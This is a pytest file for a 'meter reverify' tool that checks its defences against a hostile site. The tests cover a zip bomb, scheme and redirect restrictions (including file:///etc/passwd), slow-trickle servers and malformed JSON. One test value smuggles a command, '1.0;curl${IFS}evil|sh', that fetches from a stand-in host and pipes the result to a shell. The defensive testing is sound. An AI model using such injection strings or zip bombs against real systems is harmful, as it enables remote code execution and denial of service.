"""`meter reverify`'s own rules, on what a site could send it (the whole path, against a served
site, is in tests/test_meter_kit.py): results compared input by input in the version's order, a
zip read within one budget (a member read again counts again), only http(s) fetched."""

from __future__ import annotations

import io
import zipfile

import pytest

from engine.meter import reverify
from engine.meter.reverify import Members, Refused, compare, fetch


def entry(*rows: tuple[str, str, int | None]) -> dict:
    return {"results": [{"input": name, "status": status, "fuel": fuel} for name, status, fuel in rows]}


def test_results_are_compared_in_the_versions_order_even_when_an_input_comes_twice():
    """The same input may be two of a version's cases: each is compared at its own place."""
    here = [("cases/a.json", "passed", 100), ("cases/a.json", "passed", 100)]
    assert compare(entry(("cases/a.json", "passed", 100), ("cases/a.json", "passed", 100)), here) is None
    assert compare(entry(("cases/a.json", "passed", 999), ("cases/a.json", "passed", 100)), here) == (
        "cases/a.json: the site stored passed with 999 fuel, here passed with 100 fuel")
    assert compare(entry(("cases/a.json", "passed", 100)), here).startswith("the site stored results for other inputs")
    assert compare(entry(("smoke/b.json", "passed", 5), ("cases/a.json", "skipped", None)),
                   [("smoke/b.json", "passed", 5), ("cases/a.json", "passed", 7)]) == (
        "cases/a.json: the site stored skipped with no fuel figure, here passed with 7 fuel")


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def test_a_zip_is_read_within_one_budget(monkeypatch):
    monkeypatch.setattr(reverify, "CHUNK", 1 << 10)
    bomb = zipped({"a": b"\0" * (1 << 20), "b": b"\0" * (1 << 20)})  # 2 MiB of zeros in a few KiB
    members = Members(bomb, "the held-out data", budget=(1 << 20) + 10)
    assert len(members.read("a")) == 1 << 20
    with pytest.raises(Refused, match="unpacks to more than"):
        members.read("b")
    again = Members(bomb, "the held-out data", budget=(1 << 20) + 10)
    again.read("a")
    with pytest.raises(Refused, match="unpacks to more than"):  # a member read again counts again
        again.read("a")
    with pytest.raises(Refused, match="holds no c"):
        members.read("c")
    with pytest.raises(Refused, match="is not a zip"):
        Members(b"PK\3\4 not really", "the kit", budget=100)
    damaged = bytearray(zipped({"x": b"x" * 4000}))
    damaged[60:70] = b"\xff" * 10  # inside the compressed member
    with pytest.raises(Refused, match="x cannot be read"):
        Members(bytes(damaged), "the kit", budget=1 << 20).read("x")


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.org/x", "/api/v1/", "gopher://x"])
def test_only_http_addresses_are_fetched(url):
    with pytest.raises(Refused, match="is not an http"):
        fetch(url, 100, "the module")


@pytest.mark.parametrize("body", [b"[" * 100_000, b'{"case": 1', b"\xff\xfe"])
def test_a_hostile_site_gets_a_one_line_refusal_never_a_traceback(body):
    """A site that answers with JSON nested beyond any parser's depth, or with no JSON at all."""
    import http.server
    import threading

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    out, err = io.StringIO(), io.StringIO()
    try:
        code = reverify.reverify(f"http://127.0.0.1:{server.server_address[1]}", 7, threads=1, out=out, err=err,
                                 as_json=False)
    finally:
        server.shutdown()
    assert code == reverify.REFUSED and out.getvalue() == ""
    assert err.getvalue().startswith("meter reverify: ") and err.getvalue().count("\n") == 1, err.getvalue()


def serve(handler):
    import http.server
    import threading

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


@pytest.mark.parametrize("target", ["file:///etc/passwd", "ftp://127.0.0.1/x"])
def test_a_redirect_is_followed_only_to_an_http_address(target):
    import http.server

    class Redirect(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", target)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    server, url = serve(Redirect)
    try:
        # urllib itself refuses a redirect to a file; the meter refuses any other scheme but http(s).
        with pytest.raises(Refused, match=f"'{target}'(, not an http| is not allowed)"):
            fetch(url + "/module.wasm", 100, "the module")
    finally:
        server.shutdown()


def test_a_site_that_sends_a_byte_now_and_then_is_given_up_on(monkeypatch):
    import http.server
    import time

    class Trickle(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", "1000")
            self.end_headers()
            for _ in range(1000):
                self.wfile.write(b"x")
                self.wfile.flush()
                time.sleep(0.05)

        def log_message(self, *args):
            pass

    monkeypatch.setattr(reverify, "DOWNLOAD_SECONDS", 0.5)
    server, url = serve(Trickle)
    started = time.monotonic()
    try:
        with pytest.raises(Refused, match="took more than 0.5 s"):
            fetch(url, 10_000, "the data")
    finally:
        server.shutdown()
    assert time.monotonic() - started < 5


def test_a_site_that_trickles_its_headers_is_given_up_on_too(monkeypatch):
    import socket
    import threading
    import time

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()

    def trickle():
        connection, _ = listener.accept()
        with connection:
            connection.recv(4096)
            connection.sendall(b"HTTP/1.1 200 OK\r\n")
            for _ in range(200):  # a header line that never ends, a byte every 50 ms
                try:
                    connection.sendall(b"X")
                except OSError:
                    return
                time.sleep(0.05)

    threading.Thread(target=trickle, daemon=True).start()
    monkeypatch.setattr(reverify, "DOWNLOAD_SECONDS", 0.5)
    started = time.monotonic()
    with pytest.raises(Refused, match="took more than 0.5 s"):
        fetch(f"http://127.0.0.1:{listener.getsockname()[1]}/", 10_000, "the data")
    assert time.monotonic() - started < 5
    listener.close()


def test_an_entry_is_measured_again_only_with_the_engine_that_counted_it():
    """The entry names its engine: a version retired under one release and read after the site moved
    to another is held to the release of its day, never to the site's (nor to its kit's) of now."""
    from types import SimpleNamespace

    from engine.meter.contract import ContractError
    from engine.sandbox import ENGINE_DIGEST, WASMTIME_VERSION

    other = SimpleNamespace(wasmtime="1.0.0", config_digest="0" * 12)  # what the kit says today
    reverify.check_counted_by({"engine": f"{WASMTIME_VERSION} ({ENGINE_DIGEST})"}, other)
    reverify.check_counted_by({"engine": f"{WASMTIME_VERSION} (configuration not recorded)"}, other)
    with pytest.raises(Refused, match=r"wasmtime 47\.0\.1 \(0123456789ab\).*pip install wasmtime==47\.0\.1"):
        reverify.check_counted_by({"engine": "47.0.1 (0123456789ab)"}, other)
    with pytest.raises(Refused, match="another engine configuration"):
        reverify.check_counted_by({"engine": f"{WASMTIME_VERSION} (0123456789ab)"}, other)
    for hostile in ("1.0;curl${IFS}evil|sh (0123456789ab)", ["47.0.1"], 47, "\x1b[2J" * 10_000):
        with pytest.raises(Refused, match="in a form this meter does not know"):
            reverify.check_counted_by({"engine": hostile}, other)
    with pytest.raises(ContractError, match="this contract was written for wasmtime 1.0.0"):
        reverify.check_counted_by({}, other)  # an entry that names none: its contract's
    reverify.check_counted_by({}, SimpleNamespace(wasmtime=WASMTIME_VERSION, config_digest=ENGINE_DIGEST))
